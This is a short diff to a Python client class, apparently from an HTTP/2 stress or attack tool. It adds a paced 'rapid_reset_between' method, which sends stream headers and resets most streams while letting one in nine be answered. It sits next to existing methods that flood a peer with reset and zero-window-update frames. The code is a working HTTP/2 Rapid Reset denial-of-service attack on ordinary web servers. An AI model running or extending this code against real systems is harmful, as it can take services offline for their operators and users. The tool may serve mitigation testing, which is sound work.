@@ -57,6 +57,10 @@ class Client:
     def rapid_reset(self):
         flood(self.peer, lambda i: head(i, self.host) + h2.reset(number(i)), self.n)
 
+    def rapid_reset_between(self):
+        """One in nine is let be answered."""
+        paced(self.peer, lambda i: head(i, self.host) + (h2.reset(number(i)) if i % 9 else b""), self.n)
+
     def reset_by_window_0(self):
         flood(self.peer, lambda i: head(i, self.host) + h2.frame(h2.WINDOW_UPDATE, 0, number(i), bytes(4)), self.n)
 
